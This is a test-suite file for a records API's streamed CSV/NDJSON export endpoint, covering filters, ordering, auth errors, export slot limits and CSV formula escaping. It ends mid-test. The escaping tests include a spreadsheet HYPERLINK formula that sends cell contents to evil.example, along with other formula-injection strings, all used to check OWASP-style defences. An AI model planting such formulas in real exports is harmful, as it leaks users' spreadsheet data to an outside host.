import type { INestApplication } from '@nestjs/common';
import { parse as parseCsv } from 'csv-parse/sync';
import http, { type IncomingMessage } from 'node:http';
import type { AddressInfo } from 'node:net';
import request from 'supertest';
import type { DataSource } from 'typeorm';
import { OBJECTS } from '#records/objects/index.js';
import { newWorkspace, startApi, type TestWorkspace } from './factories.js';
import { importErrors, importingApi, upload, waitForImport } from './import-helpers.js';
import { allPermissions, client, expectError, keyWithRole, type Client, type Http } from './rest-helpers.js';

/** Exports (docs/rest.md "Exports"): streamed CSV and NDJSON of every matching live record, bounded per workspace. */
describe('exports', () => {
  let app: INestApplication;
  let ds: DataSource;
  let api: Http;

  beforeAll(async () => {
    ({ app, ds, http: api } = await startApi());
  });
  afterAll(() => app.close());

  const FIELDS = [
    {
      object: 'companies',
      name: 'tier',
      label: 'Tier',
      type: 'SELECT',
      options: [
        { value: 'GOLD', label: 'Gold' },
        { value: 'SILVER', label: 'Silver' },
      ],
    },
    {
      object: 'companies',
      name: 'tags',
      label: 'Tags',
      type: 'MULTI_SELECT',
      options: [
        { value: 'A', label: 'A' },
        { value: 'B', label: 'B' },
      ],
    },
    { object: 'companies', name: 'arr', label: 'ARR', type: 'NUMBER' },
    { object: 'companies', name: 'active', label: 'Active', type: 'BOOLEAN' },
    { object: 'companies', name: 'renewal', label: 'Renewal', type: 'DATE' },
    { object: 'companies', name: 'seen', label: 'Seen', type: 'DATE_TIME' },
    { object: 'companies', name: 'note', label: 'Note', type: 'TEXT' },
    { object: 'companies', name: 'budget', label: 'Budget', type: 'CURRENCY' },
    { object: 'companies', name: 'site', label: 'Site', type: 'LINKS' },
    { object: 'companies', name: 'contact', label: 'Contact', type: 'EMAILS' },
  ];

  /** Values that break naive CSV and JSON writers: separators, quotes, line breaks, non-ASCII, formulas. */
  const AWKWARD = [
    'Acme, Inc.',
    'The "Best" Co',
    'Line one\nLine two',
    'CR\r\nLF',
    'Zürich Größe — 日本語 🚀',
    '=HYPERLINK("http://x","y")',
    '  padded  ',
    'back\\slash \\N',
    '\\.',
    "it's",
  ];

  async function workspaceWithFields(label: string): Promise<{ ws: TestWorkspace; rest: Client }> {
    const ws = await newWorkspace(ds, label);
    const rest = client(api, ws.keys.Admin);
    for (const field of FIELDS) expect((await rest.post('/rest/metadata/fields', field)).status).toBe(201);
    return { ws, rest };
  }

  const exportFrom = (server: Http, secret: string | undefined, plural: string, query: Record<string, string>) => {
    const req = request(server).get(`/rest/${plural}/export`).query(query);
    if (secret) req.set('Authorization', `Bearer ${secret}`);
    // The body as text whatever its type (supertest parses only JSON).
    return req.buffer(true).parse((res, done) => {
      let text = '';
      res.setEncoding('utf8');
      res.on('data', (chunk: string) => (text += chunk));
      // Errors are JSON, as everywhere (docs/rest.md).
      res.on('end', () => done(null, /^application\/json/.test(res.headers['content-type'] ?? '') ? JSON.parse(text) : text));
    });
  };
  const exportOf = (secret: string | undefined, plural: string, query: Record<string, string>) => exportFrom(api, secret, plural, query);
  const lines = (text: string) => text.split('\n').filter((l) => l !== '');
  const ndjson = (text: string) => lines(text).map((l) => JSON.parse(l));

  /** Every record of a list, page by page, as REST returns it. */
  async function listAll(rest: Client, plural: string, query: Record<string, string> = {}): Promise<any[]> {
    const out: any[] = [];
    let after: string | undefined;
    for (;;) {
      const res = await rest.get(`/rest/${plural}`, { limit: 200, ...query, ...(after ? { starting_after: after } : {}) });
      expect(res.status).toBe(200);
      out.push(...res.body.data[plural]);
      if (!res.body.pageInfo.hasNextPage) return out;
      after = res.body.pageInfo.endCursor;
    }
  }

  /** A REST record as CSV cells by field path: lists as JSON, no value as an empty cell. */
  function cells(record: Record<string, unknown>): Record<string, string> {
    const out: Record<string, string> = {};
    const cell = (value: unknown) => (value === null ? '' : typeof value === 'object' ? JSON.stringify(value) : String(value));
    for (const [key, value] of Object.entries(record)) {
      if (value !== null && typeof value === 'object' && !Array.isArray(value)) {
        for (const [sub, subValue] of Object.entries(value)) out[`${key}.${sub}`] = cell(subValue);
      } else out[key] = cell(value);
    }
    return out;
  }

  /** CSV cells that hold JSON compare as JSON (Postgres writes `["a", "b"]`, JSON.stringify `["a","b"]`). */
  const normalise = (row: Record<string, string>) =>
    Object.fromEntries(Object.entries(row).map(([k, v]) => [k, /^[[{]/.test(v) ? JSON.parse(v) : v]));

  it('CSV: a header row of field paths (custom fields included), one row per live record, as REST shows it', async () => {
    const { ws, rest } = await workspaceWithFields('csv');
    const made = await rest.post('/rest/batch/companies', [
      {
        name: 'Acme',
        domainName: {
          primaryLinkUrl: 'acme.com',
          primaryLinkLabel: 'Site',
          secondaryLinks: [{ url: 'https://a.example', label: 'a, "b"' }],
        },
        tier: 'GOLD',
        tags: ['A', 'B'],
        arr: 1234.5,
        active: false,
        renewal: '2027-01-31',
        seen: '2026-05-01T10:00:00Z',
        note: 'x,y\n"z"',
        budget: { amountMicros: 9007199254740991, currencyCode: 'EUR' },
        site: { primaryLinkUrl: 'https://acme.example', secondaryLinks: [] },
        contact: { primaryEmail: 'a@acme.example', additionalEmails: ['b@acme.example'] },
      },
      { name: 'Bare' },
    ]);
    expect(made.status).toBe(201);

    const res = await exportOf(ws.keys.Admin, 'companies', { format: 'csv' });
    expect(res.status).toBe(200);
    expect(res.headers['content-type']).toBe('text/csv; charset=utf-8; header=present');
    expect(res.headers['content-disposition']).toMatch(/^attachment; filename="companies-\d{4}-\d{2}-\d{2}\.csv"$/);
    expect(res.headers['cache-control']).toBe('no-store');
    const text: string = res.body;
    expect(text.split('\n')[0]).toBe(
      'id,name,domainName.primaryLinkUrl,domainName.primaryLinkLabel,domainName.secondaryLinks,createdAt,updatedAt,deletedAt,' +
        'tier,tags,arr,active,renewal,seen,note,budget.amountMicros,budget.currencyCode,' +
        'site.primaryLinkUrl,site.primaryLinkLabel,site.secondaryLinks,contact.primaryEmail,contact.additionalEmails',
    );
    const rows = parseCsv(text, { columns: true }) as Record<string, string>[];
    const records = await listAll(rest, 'companies');
    expect(rows.map(normalise)).toEqual(records.map((r) => normalise(cells(r))));
    expect(rows.find((r) => r.name === 'Bare')).toMatchObject({ tier: '', tags: '[]', 'budget.amountMicros': '', deletedAt: '' });
  });

  it('NDJSON: each line is the record GET /rest/<plural>/{id} returns, for every declared object', async () => {
    const { ws, rest } = await workspaceWithFields('ndjson');
    const acme = (
      await rest.post('/rest/companies', {
        name: AWKWARD[1],
        tier: 'SILVER',
        tags: ['B'],
        budget: { amountMicros: -5, currencyCode: 'USD' },
        note: AWKWARD.join('|'),
        seen: '2026-01-02T03:04:05.678Z',
      })
    ).body.data.createCompany;
    const ada = (await rest.post('/rest/people', { name: { firstName: 'Ada', lastName: AWKWARD[4] }, companyId: acme.id })).body.data
      .createPerson;
    await rest.post('/rest/opportunities', {
      name: 'Deal',
      stage: 'MEETING',
      amount: { amountMicros: 1500000, currencyCode: 'USD' },
      closeDate: '2026-03-10T00:00:00Z',
      companyId: acme.id,
      pointOfContactId: ada.id,
    });
    for (const object of OBJECTS) {
      const res = await exportOf(ws.keys.Admin, object.plural, { format: 'ndjson' });
      expect(res.status).toBe(200);
      expect(res.headers['content-type']).toBe('application/x-ndjson; charset=utf-8');
      expect(res.headers['content-disposition']).toMatch(
        new RegExp(`^attachment; filename="${object.plural}-\\d{4}-\\d{2}-\\d{2}\\.ndjson"$`),
      );
      const exported = ndjson(res.body);
      expect(exported).toHaveLength(1);
      for (const record of exported) {
        const one = await rest.get(`/rest/${object.plural}/${record.id}`);
        expect(record).toEqual(one.body.data[object.singular]);
        // The same keys in the same order, too.
        expect(Object.keys(record)).toEqual(Object.keys(one.body.data[object.singular]));
      }
    }
  });

  it('filter and fields as the list takes them: the same records, only the named fields (and id)', async () => {
    const { ws, rest } = await workspaceWithFields('filter');
    const names = ['Alpha', 'Beta', 'Gamma', "O'Brien \\ Sons", 'Alpha 2', '100% _real_'];
    const made = await rest.post(
      '/rest/batch/companies',
      names.map((name, i) => ({ name, tier: i % 2 ? 'GOLD' : 'SILVER', arr: i * 10, budget: { amountMicros: i, currencyCode: 'USD' } })),
    );
    expect(made.status).toBe(201);
    const ids = made.body.data.createCompanies.map((c: { id: string }) => c.id);
    await rest.post('/rest/people', { name: { firstName: 'P' }, emails: { primaryEmail: 'p@x.example' }, companyId: ids[1] });
    const filters = [
      'name[startsWith]:"Alpha"',
      'name[eq]:"O\'Brien \\\\ Sons"',
      'name[ilike]:"%\'%"',
      'name[endsWith]:"_real_"',
      'tier[eq]:"GOLD"',
      'tier[in]:["GOLD","SILVER"]',
      'arr[gte]:"20"',
      'budget.amountMicros[lt]:"3"',
      `id[in]:["${ids[0]}","${ids[2]}"]`,
      'or(name[eq]:"Beta",not(tier[eq]:"GOLD"))',
      'people.emails.primaryEmail[eq]:"p@x.example"',
      'createdAt[gte]:"2000-01-01"',
    ];
    for (const filter of filters) {
      const listed = (await listAll(rest, 'companies', { filter })).map((r) => r.id);
      const res = await exportOf(ws.keys.Admin, 'companies', { format: 'ndjson', filter });
      expect({ filter, status: res.status }).toEqual({ filter, status: 200 });
      expect({ filter, ids: ndjson(res.body).map((r) => r.id) }).toEqual({ filter, ids: listed });
      expect(listed.length).toBeGreaterThan(0);
    }
    const csv = await exportOf(ws.keys.Admin, 'companies', { format: 'csv', filter: 'tier[eq]:"GOLD"', fields: 'budget,name' });
    expect(csv.status).toBe(200);
    expect(lines(csv.body)[0]).toBe('id,name,budget.amountMicros,budget.currencyCode');
    expect((parseCsv(csv.body, { columns: true }) as Record<string, string>[]).map((r) => r.name).sort()).toEqual([
      '100% _real_',
      'Beta',
      "O'Brien \\ Sons",
    ]);
    const json = await exportOf(ws.keys.Admin, 'companies', { format: 'ndjson', fields: 'tier' });
    expect(ndjson(json.body).map((r) => Object.keys(r))).toEqual(names.map(() => ['id', 'tier']));
  });

  it('round-trips commas, quotes, line breaks, backslashes and non-ASCII text through a CSV parser', async () => {
    const ws = await newWorkspace(ds, 'awkward');
    const rest = client(api, ws.keys.Admin);
    const made = await rest.post(
      '/rest/batch/companies',
      // Domains are unique in a workspace (docs/data-model.md): one each.
      AWKWARD.map((name, i) => ({ name, domainName: { primaryLinkUrl: `x${i}.example`, primaryLinkLabel: name } })),
    );
    expect(made.status).toBe(201);
    // raw: the formula among them is written as it is (the default escaping has tests of its own below).
    const res = await exportOf(ws.keys.Admin, 'companies', { format: 'csv', fields: 'name,domainName', formulas: 'raw' });
    const rows = parseCsv(res.body, { columns: true }) as Record<string, string>[];
    // One batch is one INSERT: the same createdAt, so the order among them is by id.
    expect(rows.map((r) => [r.name, r['domainName.primaryLinkLabel']]).sort()).toEqual(AWKWARD.map((n) => [n, n]).sort());
    // Empty cell = no value; "" = empty text.
    expect(rows[0]['domainName.secondaryLinks']).toBe('[]');
    const json = ndjson((await exportOf(ws.keys.Admin, 'companies', { format: 'ndjson' })).body);
    expect(json.map((r) => r.name).sort()).toEqual([...AWKWARD].sort());
  });

  it('a stable order past many pages: createdAt, then id (ties included), the same as the list walked page by page', async () => {
    const ws = await newWorkspace(ds, 'order');
    const rest = client(api, ws.keys.Admin);
    // 1 500 companies, a third of them on one timestamp, so id breaks the ties.
    await ds.query(
      `INSERT INTO companies (workspace_id, name, created_at)
       SELECT $1, 'Co ' || g, CASE WHEN g % 3 = 0 THEN timestamptz '2025-01-01' ELSE timestamptz '2024-01-01' + g * interval '1 minute' END
         FROM generate_series(1, 1500) g`,
      [ws.id],
    );
    const first = ndjson((await exportOf(ws.keys.Admin, 'companies', { format: 'ndjson', fields: 'createdAt' })).body);
    const again = ndjson((await exportOf(ws.keys.Admin, 'companies', { format: 'ndjson', fields: 'createdAt' })).body);
    expect(first).toHaveLength(1500);
    expect(again).toEqual(first);
    const sorted = [...first].sort((a, b) => (a.createdAt === b.createdAt ? (a.id < b.id ? -1 : 1) : a.createdAt < b.createdAt ? -1 : 1));
    expect(first).toEqual(sorted);
    expect(first.map((r) => r.id)).toEqual((await listAll(rest, 'companies')).map((r) => r.id));
  });

  it("never holds soft-deleted records, nor another workspace's", async () => {
    const mine = await newWorkspace(ds, 'mine');
    const theirs = await newWorkspace(ds, 'theirs');
    const rest = client(api, mine.keys.Admin);
    const kept = (await rest.post('/rest/companies', { name: 'Kept' })).body.data.createCompany;
    const gone = (await rest.post('/rest/companies', { name: 'Gone' })).body.data.createCompany;
    expect((await rest.delete(`/rest/companies/${gone.id}`)).status).toBe(200);
    const other = (await client(api, theirs.keys.Admin).post('/rest/companies', { name: 'Kept' })).body.data.createCompany;

    const all = ndjson((await exportOf(mine.keys.Admin, 'companies', { format: 'ndjson' })).body).map((r) => r.id);
    expect(all).toEqual([kept.id]);
    // Exports hold live records only, whatever the filter says about deletedAt.
    const deleted = await exportOf(mine.keys.Admin, 'companies', { format: 'ndjson', filter: 'deletedAt[is]:NOT_NULL' });
    expect(deleted.status).toBe(200);
    expect(deleted.body).toBe('');
    // Another workspace's id behaves as missing.
    const csv = await exportOf(mine.keys.Admin, 'companies', { format: 'csv', filter: `id[eq]:"${other.id}"` });
    expect(lines(csv.body)).toHaveLength(1);
    expect(csv.body).not.toContain(other.id);
  });

  it('refuses before sending anything: 401 without a credential, 403 without read, 400 for bad parameters', async () => {
    const ws = await newWorkspace(ds, 'refuse');
    expectError(await exportOf(undefined, 'companies', { format: 'csv' }), 401, 'UNAUTHENTICATED');
    expectError(await exportOf('wrs_not_a_key', 'companies', { format: 'csv' }), 401, 'UNAUTHENTICATED');
    const noRead = await keyWithRole(ds, ws.id, 'No company read', {
      ...allPermissions(),
      companies: { read: false, create: true, update: true, delete: true },
    });
    const forbidden = await exportOf(noRead.secret, 'companies', { format: 'csv' });
    expectError(forbidden, 403, 'FORBIDDEN');
    expect(forbidden.headers['content-disposition']).toBeUndefined();
    // Read on people is enough for people.
    expect((await exportOf(noRead.secret, 'people', { format: 'csv' })).status).toBe(200);

    const bad: [Record<string, string>, string, RegExp][] = [
      [{}, 'VALIDATION_FAILED', /format must be csv or ndjson; got nothing/],
      [{ format: 'xml' }, 'VALIDATION_FAILED', /format must be csv or ndjson; got "xml"/],
      [{ format: 'CSV' }, 'VALIDATION_FAILED', /format must be csv or ndjson/],
      [
        { format: 'csv', limit: '10' },
        'VALIDATION_FAILED',
        /unknown query parameter "limit" \(allowed: format, filter, fields, formulas\)/,
      ],
      [{ format: 'csv', formulas: 'off' }, 'VALIDATION_FAILED', /formulas must be escaped or raw; got "off"/],
      [{ format: 'csv', formulas: 'RAW' }, 'VALIDATION_FAILED', /formulas must be escaped or raw/],
      [{ format: 'csv', filter: 'nme[eq]:"x"' }, 'INVALID_FILTER', /unknown field "nme"/],
      [{ format: 'csv', filter: 'name[eq]:' }, 'INVALID_FILTER', /missing value/],
      [{ format: 'csv', fields: 'name,nope' }, 'INVALID_FIELDS', /unknown field "nope"/],
      [{ format: 'csv', fields: 'people' }, 'INVALID_FIELDS', /unknown field "people"/],
    ];
    for (const [query, code, message] of bad) {
      const res = await exportOf(ws.keys.Admin, 'companies', query);
      expect({ query, message: expectError(res, 400, code) }).toEqual({ query, message: expect.stringMatching(message) });
    }
    for (const query of [
      'format=csv&format=ndjson',
      'format=csv&formulas=raw&formulas=escaped',
      `format=csv&formulas=${'x'.repeat(5000)}`,
    ]) {
      const res = await request(api).get(`/rest/companies/export?${query}`).set('Authorization', `Bearer ${ws.keys.Admin}`);
      expect(expectError(res, 400, 'VALIDATION_FAILED').length).toBeLessThan(200);
    }
  });

  it('is in the OpenAPI document, before the :id route', async () => {
    const doc = (await request(api).get('/rest/open-api').expect(200)).body;
    for (const object of OBJECTS) {
      const operation = doc.paths[`/rest/${object.plural}/export`]?.get;
      expect(operation?.operationId).toBe(`export${object.pluralType}`);
      expect(operation.parameters.map((p: { name: string }) => p.name)).toEqual(['format', 'filter', 'fields', 'formulas']);
      expect(Object.keys(operation.responses['200'].content)).toEqual(['text/csv', 'application/x-ndjson']);
      expect(Object.keys(operation.responses).sort()).toEqual(['200', '400', '401', '403', '429']);
    }
  });

  /**
   * Formula cells (docs/rest.md "The CSV format"): a text cell that a spreadsheet would run
   * as a formula gets a leading `'` (OWASP's CSV injection rule), which CSV imports take off again.
   */
  describe('formula cells', () => {
    let importing: { app: INestApplication; http: Http };
    let ws: TestWorkspace;
    let rest: Client;

    /** Texts a spreadsheet reads as formulas (OWASP: = + - @ tab CR first), and texts that only look close. */
    const RISKY = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', '+SUM(1,2)', '-2+3', '@SUM(A1)', '\t=1+1', '\r=1+1', '-', '='];
    /** Texts already starting with quotes before a trigger: they get one more, so an import gives them back as they were. */
    const QUOTED = ["'=1+1", "''+x"];
    const SAFE = ['Acme', "'plain", "'", 'a=b', ' =1', '1-2'];
    const escaped = (text: string) => (/^'*[=+\-@\t\r]/.test(text) ? `'${text}` : text);

    const FORMULA_FIELDS = [
      { object: 'companies', name: 'note', label: 'Note', type: 'TEXT' },
      { object: 'companies', name: 'arr', label: 'ARR', type: 'NUMBER' },
      { object: 'companies', name: 'renewal', label: 'Renewal', type: 'DATE' },
      { object: 'companies', name: 'budget', label: 'Budget', type: 'CURRENCY' },
      { object: 'companies', name: 'phone', label: 'Phone', type: 'PHONES' },
      { object: 'companies', name: 'contact', label: 'Contact', type: 'EMAILS' },
      { object: 'companies', name: 'site', label: 'Site', type: 'LINKS' },
    ];
    const addFields = async (api: Client) => {
      for (const field of FORMULA_FIELDS) expect((await api.post('/rest/metadata/fields', field)).status).toBe(201);
    };

    beforeAll(async () => {
      importing = await importingApi();
      ws = await newWorkspace(ds, 'formulas');
      rest = client(importing.http, ws.keys.Admin);
      await addFields(rest);
      const made = await rest.post(
        '/rest/batch/companies',
        [...RISKY, ...QUOTED, ...SAFE].map((text, i) => ({
          name: text,
          domainName: { primaryLinkLabel: text },
          site: { primaryLinkUrl: `${i % 2 ? '=' : '-'}x${i}.example` },
          note: text,
          arr: -5 - i,
          renewal: '2027-01-31',
          budget: { amountMicros: -5000000, currencyCode: 'EUR' },
          phone: {
            primaryPhoneNumber: '+33 6 12 34 56 78',
            primaryPhoneCountryCode: 'FR',
            // A calling code stays as it is; anything else in that cell is text like the others.
            primaryPhoneCallingCode: i === 0 ? '=1+1' : '+33',
          },
          contact: { primaryEmail: `=x${i}@evil.example`, additionalEmails: [`-y${i}@evil.example`] },
        })),
      );
      expect({ status: made.status, body: made.status === 201 ? undefined : made.body }).toEqual({ status: 201, body: undefined });
    });
    afterAll(() => importing.app.close());

    const csvRows = async (query: Record<string, string> = {}) => {
      const res = await exportFrom(importing.http, ws.keys.Admin, 'companies', { format: 'csv', ...query });
      expect(res.status).toBe(200);
      return { text: res.body as string, rows: parseCsv(res.body, { columns: true }) as Record<string, string>[] };
    };

    it('CSV: a text cell that starts with = + - @ tab or CR gets a leading quote; numbers, dates, lists and calling codes never do', async () => {
      const { rows } = await csvRows();
      expect(rows.map((r) => r.name).sort()).toEqual([...RISKY, ...QUOTED, ...SAFE].map(escaped).sort());
      for (const row of rows) {
        const name = row.name.replace(/^'(?='*[=+\-@\t\r])/, '');
        expect({ name, note: row.note, label: row['domainName.primaryLinkLabel'] }).toEqual({
          name,
          note: escaped(name),
          label: escaped(name),
        });
        expect(row['site.primaryLinkUrl']).toMatch(/^'[=-]x\d+\.example$/);
        expect(row['contact.primaryEmail']).toMatch(/^'=x\d+@evil\.example$/);
        // A list is JSON text: it starts with [ whatever it holds.
        expect(JSON.parse(row['contact.additionalEmails'])).toEqual([expect.stringMatching(/^-y\d+@evil\.example$/)]);
        expect(Number(row.arr)).toBeLessThan(0);
        expect(row.arr).toMatch(/^-\d+$/);
        expect(row['budget.amountMicros']).toBe('-5000000');
        expect(row.renewal).toBe('2027-01-31');
        expect(row['phone.primaryPhoneNumber']).toBe("'+33 6 12 34 56 78");
        expect(row['phone.primaryPhoneCountryCode']).toBe('FR');
      }
      expect(rows.map((r) => r['phone.primaryPhoneCallingCode']).sort()).toEqual([
        "'=1+1",
        ...Array(RISKY.length + QUOTED.length + SAFE.length - 1).fill('+33'),
      ]);
    });

    it('formulas=raw writes every cell as it is; NDJSON never changes a value', async () => {
      const { rows } = await csvRows({ formulas: 'raw' });
      expect(rows.map((r) => r.name).sort()).toEqual([...RISKY, ...QUOTED, ...SAFE].sort());
      for (const row of rows) {
        expect(row.note).toBe(row.name);
        expect(row['phone.primaryPhoneNumber']).toBe('+33 6 12 34 56 78');
        expect(row['contact.primaryEmail']).toMatch(/^=x\d+@evil\.example$/);
      }
      for (const formulas of [{}, { formulas: 'raw' }] as Record<string, string>[]) {
        const json = await exportFrom(importing.http, ws.keys.Admin, 'companies', { format: 'ndjson', ...formulas });
        expect(json.status).toBe(200);
        const records = ndjson(json.body);
        expect(records.map((r) => r.name).sort()).toEqual([...RISKY, ...QUOTED, ...SAFE].sort());
        for (const r of records) expect(r.note).toBe(r.name);
      }
    });

    it('an escaped CSV export imports back unchanged: the import takes off exactly the quote the export added', async () => {
      const before = await listAll(rest, 'companies');
      const { text } = await csvRows();
      const res = await upload(importing.http, ws.keys.Admin, '?object=companies&mode=upsert&match=id', text);
      expect({ status: res.status, body: res.status === 202 ? undefined : res.body }).toEqual({ status: 202, body: undefined });
      const done = await waitForImport(importing.http, ws.keys.Admin, res.body.data.import.id);
      expect(await importErrors(importing.http, ws.keys.Admin, done.id as string)).toEqual([]);
      expect(done).toMatchObject({ status: 'completed', created: 0, updated: 0, unchanged: before.length, failed: 0 });
      expect(await listAll(rest, 'companies')).toEqual(before);
    });

    it('CSV imports take one quote off text cells only; NDJSON imports keep every value as sent', async () => {
      const other = await newWorkspace(ds, 'formulas-in');
      await addFields(client(importing.http, other.keys.Admin));
      const csv = ['name,note,arr', `'=1+1,"''+x",`, `'plain,"'",`, `a,"'-",'-5`, `"'\t=1",'@x,`].join('\n');
      const res = await upload(importing.http, other.keys.Admin, '?object=companies&mode=create', csv);
      expect(res.status).toBe(202);
      const done = await waitForImport(importing.http, other.keys.Admin, res.body.data.import.id);
      expect(done).toMatchObject({ status: 'completed', created: 3, failed: 1 });
      // A number column is not text: its quote stays, and the cell is not a number.
      expect(await importErrors(importing.http, other.keys.Admin, done.id as string)).toEqual([
        { row: 3, line: 4, messages: [expect.stringMatching(/^arr /)] },
      ]);
      const json = await upload(
        importing.http,
        other.keys.Admin,
        '?object=companies&mode=create',
        JSON.stringify({ name: "'=2+2", note: "'@x" }) + '\n',
        'application/x-ndjson',
      );
      expect(json.status).toBe(202);
      expect(await waitForImport(importing.http, other.keys.Admin, json.body.data.import.id)).toMatchObject({ created: 1 });
      const stored = (await listAll(client(importing.http, other.keys.Admin), 'companies')).map((r) => [r.name, r.note]);
      expect(stored.sort()).toEqual(
        [
          ['=1+1', "'+x"],
          ["'plain", "'"],
          ['\t=1', '@x'],
          ["'=2+2", "'@x"],
        ].sort(),
      );
    });
  });

  describe('with readers that stop', () => {
    let big: TestWorkspace;
    /** Another workspace as big, of the same party: one person can sign up many workspaces. */
    let big2: TestWorkspace;
    let base: string;

    beforeAll(async () => {
      // About 30 MB of CSV each: far more than the socket buffers between Postgres, the API and a client hold.
      big = await newWorkspace(ds, 'big');
      big2 = await newWorkspace(ds, 'big2');
      // Set-based, and without the test pool's statement timeout: the write triggers make it take a few seconds on a busy machine.
      for (const ws of [big, big2])
        await ds.transaction(async (tx) => {
          await tx.query('SET LOCAL statement_timeout = 0');
          await tx.query(
            `INSERT INTO companies (workspace_id, name) SELECT $1, 'Co ' || g || repeat('x', 3000) FROM generate_series(1, 10000) g`,
            [ws.id],
          );
        });
      await new Promise<void>((resolve) => (api as http.Server).listen(0, '127.0.0.1', resolve));
      base = `http://127.0.0.1:${((api as http.Server).address() as AddressInfo).port}`;
    });

    /** An export whose reader takes the headers and then reads nothing. */
    function stalledExport(secret: string, origin = base): Promise<{ res: IncomingMessage; stop: () => void }> {
      return new Promise((resolve, reject) => {
        const req = http.get(`${origin}/rest/companies/export?format=csv`, { headers: { Authorization: `Bearer ${secret}` } }, (res) => {
          res.pause();
          resolve({ res, stop: () => req.destroy() });
        });
        req.on('error', reject);
      });
    }

    /** Statements of the workspace's exports that Postgres is running (the workspace id is written into the COPY). */
    const runningExports = async (workspaceId: string) =>
      (
        await ds.query(
          `SELECT count(*)::int AS n FROM pg_stat_activity
            WHERE application_name = 'records export' AND state = 'active' AND query LIKE 'COPY%' AND strpos(query, $1) > 0`,
          [workspaceId],
        )
      )[0].n as number;

    /** A 429 for want of an export slot, with the message it names and its Retry-After. */
    function expectNoSlot(res: request.Response, message: RegExp): void {
      expect(expectError(res, 429, 'RATE_LIMITED')).toMatch(message);
      expect(res.headers['retry-after']).toBe('10');
    }

    /** A new workspace with one company exports it at once: the exports running elsewhere do not hold it up. */
    async function exportsAtOnce(label: string): Promise<void> {
      const other = await newWorkspace(ds, label);
      await client(api, other.keys.Admin).post('/rest/companies', { name: 'Other' });
      const res = await exportOf(other.keys.Admin, 'companies', { format: 'csv' });
      expect(res.status).toBe(200);
      expect(lines(res.body)).toHaveLength(2);
    }

    async function eventually(check: () => Promise<boolean>, ms: number): Promise<boolean> {
      for (const until = Date.now() + ms; Date.now() < until; await new Promise((r) => setTimeout(r, 100))) if (await check()) return true;
      return check();
    }

    it('runs 2 exports of a workspace at once: a third is 429 with Retry-After, other workspaces go on, and aborted exports stop their statements', async () => {
      const readers = [await stalledExport(big.keys.Admin), await stalledExport(big.keys.Admin)];
      for (const { res } of readers) expect(res.statusCode).toBe(200);
      expect(await runningExports(big.id)).toBe(2);

      expectNoSlot(await exportOf(big.keys.Admin, 'companies', { format: 'csv' }), /2 exports of this workspace are running/);
      // Another workspace is not held up by this one.
      await exportsAtOnce('other');

      // The clients go away mid-stream: their statements end within a few seconds.
      for (const reader of readers) reader.stop();
      expect(await eventually(async () => (await runningExports(big.id)) === 0, 5000)).toBe(true);
      // And the slots are free again: a whole export goes through.
      const whole = await exportOf(big.keys.Admin, 'companies', { format: 'csv', fields: 'id' });
      expect(whole.status).toBe(200);
      expect(lines(whole.body)).toHaveLength(10001);
    });

    it('answers HEAD with the headers alone and does not run the statement to its end', async () => {
      const res = await request(api).head('/rest/companies/export?format=ndjson').set('Authorization', `Bearer ${big.keys.Admin}`);
      expect(res.status).toBe(200);
      expect(res.headers['content-disposition']).toMatch(/^attachment; filename="companies-.*\.ndjson"$/);
      expect(await eventually(async () => (await runningExports(big.id)) === 0, 3000)).toBe(true);
    });

    /** A records API of its own started with `env`, listening on a port: its origin and how to close it. */
    async function apiWith(env: Record<string, string>): Promise<{ origin: string; http: Http; close: () => Promise<void> }> {
      Object.assign(process.env, env);
      const own = await startApi();
      for (const name of Object.keys(env)) delete process.env[name];
      const server = own.http as http.Server;
      await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
      return { origin: `http://127.0.0.1:${(server.address() as AddressInfo).port}`, http: own.http, close: () => own.app.close() };
    }
    const apiWithStallLimit = (stallMs: number) => apiWith({ EXPORT_STALL_TIMEOUT_MS: String(stallMs) });

    it("shares a server's export slots among workspaces: one party's two workspaces never hold all 4 while another asks", async () => {
      const party = [await stalledExport(big.keys.Admin), await stalledExport(big.keys.Admin), await stalledExport(big2.keys.Admin)];
      try {
        for (const { res } of party) expect(res.statusCode).toBe(200);
        // big2's second would take the server's last slot: it stays for a workspace that has none.
        expectNoSlot(await exportOf(big2.keys.Admin, 'companies', { format: 'csv', fields: 'id' }), /kept for workspaces that have none/);
        await exportsAtOnce('other-party');
      } finally {
        for (const reader of party) reader.stop();
      }
      expect(await eventually(async () => (await runningExports(big.id)) + (await runningExports(big2.id)) === 0, 5000)).toBe(true);
    });

    it('gives a freed slot to the workspace that was refused first, not to one that asks later', async () => {
      const small = await apiWith({ EXPORTS_PER_INSTANCE: '2' });
      const stops: (() => void)[] = [];
      try {
        const [first, late] = [await newWorkspace(ds, 'waits-first'), await newWorkspace(ds, 'waits-late')];
        const holders = [await stalledExport(big.keys.Admin, small.origin), await stalledExport(big2.keys.Admin, small.origin)];
        stops.push(...holders.map((h) => h.stop));
        for (const { res } of holders) expect(res.statusCode).toBe(200);
        expectNoSlot(await exportFrom(small.http, first.keys.Admin, 'companies', { format: 'csv' }), /This server is running 2 exports/);
        holders[0].stop();
        expect(await eventually(async () => (await runningExports(big.id)) === 0, 5000)).toBe(true);
        // The slot is kept for the workspace that waits: another one asking now is behind it.
        expectNoSlot(
          await exportFrom(small.http, late.keys.Admin, 'companies', { format: 'csv' }),
          /kept for workspaces that have waited longer/,
        );
        const served = await exportFrom(small.http, first.keys.Admin, 'companies', { format: 'csv' });
        expect(served.status).toBe(200);
        expect(lines(served.body)).toEqual([
          'id,name,domainName.primaryLinkUrl,domainName.primaryLinkLabel,domainName.secondaryLinks,createdAt,updatedAt,deletedAt',
        ]);
        // Served, it waits no more: the next one in is served too.
        expect((await exportFrom(small.http, late.keys.Admin, 'companies', { format: 'csv' })).status).toBe(200);
      } finally {
        for (const stop of stops) stop();
        await small.close();
      }
    });

    it('ends an export whose reader reads nothing for EXPORT_STALL_TIMEOUT_MS, and stops its statement', async () => {
      const strict = await apiWithStallLimit(1500);
      try {
        const reader = await stalledExport(big.keys.Admin, strict.origin);
        expect(reader.res.statusCode).toBe(200);
        expect(await runningExports(big.id)).toBe(1);
        expect(await eventually(async () => (await runningExports(big.id)) === 0, 8000)).toBe(true);
        // What the reader had is an incomplete transfer, not a file that looks whole.
        const ended = new Promise<boolean>((resolve) => {
          reader.res.on('error', () => resolve(reader.res.complete));
          reader.res.on('close', () => resolve(reader.res.complete));
        });
        reader.res.resume();
        expect(await ended).toBe(false);
      } finally {
        await strict.close();
      }
    });

    it('serves a reader that takes the file slowly but steadily to its end, however long past EXPORT_STALL_TIMEOUT_MS that is', async () => {
